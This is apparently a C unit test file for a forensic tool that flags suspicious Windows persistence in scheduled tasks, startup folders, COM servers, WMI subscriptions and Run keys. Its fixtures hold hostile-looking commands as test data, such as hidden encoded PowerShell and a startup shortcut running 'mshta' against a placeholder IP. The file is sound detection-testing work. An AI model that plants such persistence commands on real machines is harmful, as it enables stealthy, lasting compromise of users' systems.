/* What files tell of what starts: tasks, startup folders, WMI subscriptions; ordinary ones and those that do
 * not belong. */
#include "host_made.h"

#define OTHER   HOST_TIME - 40 * HOST_DAY
#define TASKS   "/Windows/System32/Tasks"
#define STARTUP "/Microsoft/Windows/Start Menu/Programs/Startup"
#define ROAMING "/Users/a/AppData/Roaming"
#define WBEM    "/Windows/System32/wbem/Repository"
#define CLASS   "{11111111-2222-3333-4444-555555555555}"

static uint64_t ordinals;

static void put(struct row_writer *row, unsigned column, const char *text) {
    if (text)
        row_string(row, column, text);
}

static void send(struct host_made *m, uint64_t artifact, struct text *bytes) {
    assert_int_equal(made_send(m->c, bytes, artifact), CASEFILE_TAKEN);
    text_free(bytes);
}

static uint64_t task(struct host_made *m, const char *folder, const char *name) {
    struct text bytes = {0};
    struct row_writer row;
    uint64_t file = host_file_born(m, folder, name, 0, OTHER);
    row_begin(&row, &bytes, FACT_task);
    row_integer(&row, FACT_task_complete, 1);
    send(m, file, &bytes);
    return file;
}

static void action(struct host_made *m, uint64_t file, const char *command, const char *arguments,
                   const char *class_id) {
    struct text bytes = {0};
    struct row_writer row;
    row_begin(&row, &bytes, FACT_task_action);
    row_integer(&row, FACT_task_action_ordinal, ++ordinals);
    row_string(&row, FACT_task_action_kind, class_id ? "com" : "exec");
    put(&row, FACT_task_action_command, command);
    put(&row, FACT_task_action_arguments, arguments);
    put(&row, FACT_task_action_class_id, class_id);
    send(m, file, &bytes);
}

static void file(struct host_made *m, const char *folder, const char *name, const char *state) {
    uint64_t artifact = host_file_born(m, folder, name, 0, OTHER);
    if (state[0])
        host_trust(m, artifact, state, "Somebody");
}

/* The findings' count after one task that runs a command, with a file of a state of trust. */
static void runs(const char *command, const char *arguments, const char *folder, const char *name,
                 const char *state, const char *wanted) {
    struct host_made m = host_start(true);
    action(&m, task(&m, TASKS "/Vendor", "Up"), command, arguments, NULL);
    if (name)
        file(&m, folder, name, state);
    host_expect(&m, "persistence", wanted);
}

static void tasks(void **state) {
    (void)state;
    runs("%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", NULL,
         "/Users/a/AppData/Local/Microsoft/OneDrive", "OneDriveStandaloneUpdater.exe", "trusted", "");
    runs("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "/ua /installsource scheduler",
         "/Program Files (x86)/Google/Update", "GoogleUpdate.exe", "trusted", "");
    runs("C:\\Program Files\\x y\\z.exe", NULL, "/Program Files/x y", "z.exe", "unsigned", "");
    runs("C:\\Users\\Public\\x.exe", NULL, "/Users/Public", "x.exe", "unsigned", "2/1@3");
    runs("C:\\Users\\Public\\x y.exe", "-z", "/Users/Public", "x y.exe", "unsigned", "2/1@3");
    runs("powershell.exe", "-w hidden -enc AAAA", NULL, NULL, NULL, "3/1@2");
    struct host_made m = host_start(true);
    action(&m, task(&m, "/Program Files/Vendor", "task.xml"), "powershell.exe", "-enc AAAA",
           NULL); /* not registered */
    action(&m, task(&m, TASKS "Old", "x"), "powershell.exe", "-enc AAAA", NULL);
    host_expect(&m, "persistence", "");
}

static void names_of_tasks(void **state) {
    (void)state;
    struct host_made m = host_start(true);
    action(&m, task(&m, TASKS "/Vendor", "Up"), "C:\\Program Files\\x y\\z.exe", "-a", NULL);
    host_judge(&m, "services");
    assert_string_equal(
        made_ask(m.c, "SELECT key_path || '|' || name || '|' || command || '|' || path || '|' || kind"
                      " || '|' || (key IS NULL) FROM autostart"),
        "\\Vendor\\Up|Exec|\"C:\\Program Files\\x y\\z.exe\" -a|/Program Files/x y/z.exe|task|1");
    casefile_close(m.c);
}

/* A task with a class, whose server is a file, in the registry or as a file. */
static void serves(bool local, const char *server, const char *folder, const char *name, const char *state,
                   const char *wanted) {
    struct host_made m = host_start(true);
    uint64_t one = task(&m, TASKS "/Microsoft/Windows", "One");
    action(&m, one, NULL, NULL, CLASS);
    host_hive(&m, "/Windows/System32/config", "SOFTWARE", "software", true);
    host_key(&m, "/Classes/CLSID/{00000000-2222-3333-4444-555555555555}/InprocServer32");
    host_text(&m, "", "C:\\Windows\\System32\\other.dll");
    host_key(&m,
             local ? "/Classes/CLSID/" CLASS "/LocalServer32" : "/Classes/CLSID/" CLASS "/InprocServer32");
    host_text(&m, "", server);
    file(&m, folder, name, state);
    host_expect(&m, "persistence", wanted);
}

static void classes_of_tasks(void **state) {
    (void)state;
    serves(false, "%SystemRoot%\\System32\\x.dll", "/Windows/System32", "x.dll", "trusted", "");
    serves(false, "%SystemRoot%\\System32\\x.dll", "/Windows/System32", "x.dll", "", "");
    serves(false, "C:\\ProgramData\\v\\x.dll", "/ProgramData/v", "x.dll", "unsigned", "2/1@4");
    serves(false, "C:\\Users\\Public\\x.dll", "/Users/Public", "x.dll", "unsigned", "3/1@4");
    serves(true, "\"C:\\Users\\Public\\x.exe\" -Embedding", "/Users/Public", "x.exe", "unsigned", "3/1@4");
    serves(true, "\"C:\\Users\\Public\\x.exe\" -Embedding", "/Users/Public", "x.exe", "trusted", "");
}

static void link_to(struct host_made *m, const char *folder, const char *name, const char *target,
                    const char *arguments) {
    struct text bytes = {0};
    struct row_writer row;
    uint64_t link = host_file_born(m, folder, name, 0, OTHER);
    row_begin(&row, &bytes, FACT_lnk);
    put(&row, FACT_lnk_path, target);
    put(&row, FACT_lnk_arguments, arguments);
    send(m, link, &bytes);
}

static void startup_folders(void **state) {
    (void)state;
    struct host_made m = host_start(true);
    file(&m, ROAMING STARTUP, "desktop.ini", "");
    file(&m, "/ProgramData" STARTUP, "readme.txt", "");
    link_to(&m, ROAMING STARTUP, "Chatter.lnk", "C:\\\\Program Files\\\\x y\\\\z.exe", "--hidden");
    link_to(&m, ROAMING STARTUP, "Nothing.lnk", NULL, NULL);
    file(&m, "/Program Files/x y", "z.exe", "trusted");
    file(&m, "/ProgramData" STARTUP, "signed.exe", "trusted");
    host_judge(&m, "services");
    assert_string_equal(
        made_ask(m.c, "SELECT group_concat(coalesce(user, '-') || ' ' || coalesce(path, ''), '|') FROM"
                      " (SELECT * FROM autostart ORDER BY rowid)"),
        "/Users/a /Program Files/x y/z.exe|/Users/a |- /ProgramData" STARTUP "/signed.exe");
    host_judge(&m, "persistence");
    assert_string_equal(made_ask(m.c, "SELECT count(*) FROM finding"), "0");
    casefile_close(m.c);
}

static void odd_startup_folders(void **state) {
    (void)state;
    struct host_made m = host_start(true);
    file(&m, ROAMING STARTUP, "x.exe", "unsigned");
    host_expect(&m, "persistence", "2/1@2");
    m = host_start(true);
    file(&m, "/ProgramData" STARTUP, "x.vbs", "");
    host_expect(&m, "persistence", "1/1@2");
    m = host_start(true);
    link_to(&m, ROAMING STARTUP, "x.lnk", "C:\\\\Users\\\\Public\\\\x.exe", NULL);
    file(&m, "/Users/Public", "x.exe", "unsigned");
    host_expect(&m, "persistence", "2/1@3");
    m = host_start(true);
    link_to(&m, ROAMING STARTUP, "x.lnk", "C:\\\\Windows\\\\System32\\\\cmd.exe",
            "/c mshta http://192.0.2.1/x");
    host_expect(&m, "persistence", "3/1@2");
}

static void object(struct host_made *m, uint64_t repository, const char *kind, const char *name,
                   const char *filter, const char *text, bool listed) {
    struct text bytes = {0};
    struct row_writer row;
    bool command = strcmp(kind, "command") == 0;
    row_begin(&row, &bytes, FACT_wmi_object);
    row_integer(&row, FACT_wmi_object_ordinal, ++ordinals);
    row_string(&row, FACT_wmi_object_kind, kind);
    row_string(&row, FACT_wmi_object_name, name);
    put(&row, FACT_wmi_object_filter, filter);
    if (filter)
        put(&row, FACT_wmi_object_class,
            strcmp(text, "s") == 0 ? "ActiveScriptEventConsumer" : "CommandLineEventConsumer");
    else if (strcmp(kind, "filter") == 0)
        put(&row, FACT_wmi_object_query, text);
    else
        put(&row, command ? FACT_wmi_object_command : FACT_wmi_object_script, text);
    row_integer(&row, FACT_wmi_object_listed, listed);
    send(m, repository, &bytes);
}

/* One consumer, bound to a filter or not, and a file in Public of a state of trust. */
static void consumer(const char *name, const char *command, bool bound, bool listed, const char *state,
                     const char *wanted) {
    struct host_made m = host_start(true);
    uint64_t repository = host_file_born(&m, WBEM, "OBJECTS.DATA", 0, OTHER);
    file(&m, "/Users/Public", "x.exe", state);
    file(&m, "/Program Files/v", "y.exe", state);
    if (bound)
        object(&m, repository, "binding", name, "f", "c", true);
    object(&m, repository, "filter", "f", NULL, "SELECT 1", true);
    object(&m, repository, "command", name, NULL, command, listed);
    object(&m, repository, "command", name, NULL, command, false); /* an older copy */
    host_expect(&m, "persistence", wanted);
}

static void subscriptions(void **state) {
    (void)state;
    consumer("BVTConsumer", "cscript KernCap.vbs", true, true, "", "");
    consumer("Vendor", "\"C:\\Program Files\\v\\y.exe\" -x", true, true, "trusted", "");
    consumer("Vendor", "\"C:\\Program Files\\v\\y.exe\" -x", true, true, "", "");
    consumer("Vendor", "C:\\Users\\Public\\x.exe", true, false, "trusted", "");
    consumer("BVTConsumer", "cscript evil.vbs", true, true, "", "2/1@2");
    consumer("x", "powershell -enc AAAA", true, true, "", "3/1@2");
    consumer("x", "powershell -enc AAAA", true, false, "", "1/0@2");
    consumer("x", "cmd /c dir", true, true, "", "2/1@2");
    consumer("x", "cmd /c dir", false, true, "", "1/1@2");
    consumer("x", "C:\\Users\\Public\\x.exe", true, true, "unsigned", "3/1@3");
    consumer("x", "C:\\Users\\Public\\x.exe", true, true, "", "2/1@3");
}

static void scripts(void **state) {
    (void)state;
    for (int bound = 0; bound < 2; bound++) {
        struct host_made m = host_start(true);
        uint64_t repository = host_file_born(&m, WBEM "/FS", "OBJECTS.DATA", 0, OTHER);
        object(&m, repository, "script", "x", NULL, "CreateObject(\"a\")", true);
        object(&m, repository, "binding", "x", "f", bound ? "s" : "c",
               true); /* of a consumer of another class */
        object(&m, repository, "filter", "f", NULL, "SELECT 1", true);
        host_judge(&m, "services");
        assert_string_equal(made_ask(m.c, "SELECT coalesce(name, '') || '|' || command FROM autostart"),
                            bound ? "f: SELECT 1|CreateObject(\"a\")" : "|CreateObject(\"a\")");
        host_judge(&m, "persistence");
        assert_string_equal(made_ask(m.c, "SELECT severity || '/' || strength FROM finding"),
                            bound ? "2/1" : "1/1");
        casefile_close(m.c);
    }
    struct host_made m = host_start(true); /* a copy of a repository elsewhere starts nothing */
    uint64_t copy = host_file_born(&m, "/backup", "OBJECTS.DATA", 0, OTHER);
    object(&m, copy, "script", "x", NULL, "y", true);
    host_expect(&m, "persistence", "");
}

/* What is not told of a value is said. */
static void incomplete(void **state) {
    (void)state;
    static const uint8_t torn[] = {3, 0, 0, 0, 0, 0, 0x66, 0x66, 9, 9, 9, 9};
    struct host_made m = host_start(true);
    host_hive(&m, "/Windows/System32/config", "SOFTWARE", "software", true);
    host_key(&m, "/Microsoft/Windows NT/CurrentVersion/Schedule/TaskCache/Tasks/" CLASS);
    host_value(&m, "Actions", "REG_BINARY", NULL, span_of(torn, sizeof torn, 0));
    struct text many = {0};
    for (int i = 0; i < 257; i++)
        text_add(&many, "a.dll,");
    host_key(&m, "/Microsoft/Windows NT/CurrentVersion/Windows");
    host_text(&m, "AppInit_DLLs", text_string(&many));
    text_free(&many);
    host_judge(&m, "services");
    assert_string_equal(made_ask(m.c, "SELECT group_concat(kind) FROM autostart WHERE incomplete = 1"),
                        "task,appinit");
    assert_string_equal(made_ask(m.c, "SELECT count(*) FROM autostart WHERE incomplete IS NULL"), "256");
    host_judge(&m, "persistence");
    assert_string_equal(
        made_ask(m.c, "SELECT count(*) FROM finding WHERE severity = 0 AND summary LIKE 'Of 2 keys%'"), "1");
    casefile_close(m.c);
}

static void more_values_than_are_told(void **state) {
    (void)state;
    for (int more = 0; more < 2; more++) {
        struct host_made m = host_start(true);
        host_hive(&m, "/Windows/System32/config", "SOFTWARE", "software", true);
        host_key(&m, "/Microsoft/Windows/CurrentVersion/Run");
        for (int i = 0; i < 4096 + more; i++)
            host_text(&m, "x", "");
        host_judge(&m, "services");
        assert_string_equal(made_ask(m.c, "SELECT count(*) FROM autostart WHERE incomplete = 1"),
                            more ? "1" : "0");
        casefile_close(m.c);
    }
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(tasks),
        cmocka_unit_test(names_of_tasks),
        cmocka_unit_test(classes_of_tasks),
        cmocka_unit_test(startup_folders),
        cmocka_unit_test(odd_startup_folders),
        cmocka_unit_test(subscriptions),
        cmocka_unit_test(scripts),
        cmocka_unit_test(incomplete),
        cmocka_unit_test(more_values_than_are_told),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
